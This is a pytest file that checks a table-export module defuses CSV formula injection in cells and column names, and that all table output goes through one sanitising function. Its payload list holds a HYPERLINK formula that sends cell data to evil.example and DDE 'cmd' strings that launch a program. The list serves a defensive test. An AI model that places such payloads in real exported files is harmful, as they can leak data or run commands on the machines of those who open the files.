"""Names that strangers write do not become formulas in files that others save from a table."""

from __future__ import annotations

import ast
import csv
from io import StringIO
from pathlib import Path

import pandas as pd
import pytest

from core.ui import tables

ROOT = Path(__file__).parents[2]
# Begins of formulas in Excel, LibreOffice and Google Sheets (OWASP: CSV injection).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Look")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
)
WAYS_OUT = {"dataframe", "data_editor", "to_csv"}


def _line(text: str) -> str:
    return text.translate(str.maketrans("\t\r\n", "   "))


def test_line_within_a_cell_does_not_begin_another():
    saved = tables.csv(pd.DataFrame({"Run": ["a\r=1+1"]}))
    assert saved == "Run\na =1+1\n"


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("kind", ["object", "str", "category"])
def test_no_cell_of_a_saved_table_is_a_formula(text, kind):
    table = pd.DataFrame({"Run": pd.Series([text, "plain"], dtype=kind)})
    [_, [first], [second]] = csv.reader(StringIO(tables.csv(table), newline=""))
    assert (first, second) == (f"'{_line(text)}", "plain")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_name_of_a_column_is_a_formula(text):
    assert list(tables.inert(pd.DataFrame({text: [1]})).columns) == [f"'{_line(text)}"]


def test_numbers_stay_what_they_are():
    table = pd.DataFrame({"a": [-1.5, 2], "b": ["-1.5", "+3e-4"], "c": [None, "x"]})
    assert tables.inert(table).equals(table)


def test_columns_that_become_alike_stay_apart():
    found = tables.inert(pd.DataFrame([[1, 2]], columns=["=a", "'=a"]))
    assert list(found.columns) == ["'=a", "'=a (2)"]


def test_every_table_goes_through_the_one_function():
    calls = [
        f"{file.relative_to(ROOT)}:{node.lineno}"
        for folder in ("core/ui", "pages")
        for file in (ROOT / folder).rglob("*.py")
        if file.name != "tables.py"
        for node in ast.walk(ast.parse(file.read_text("utf-8")))
        if isinstance(node, ast.Attribute)
        and (node.attr in WAYS_OUT or ast.unparse(node) == "st.table")
    ]
    assert calls == []
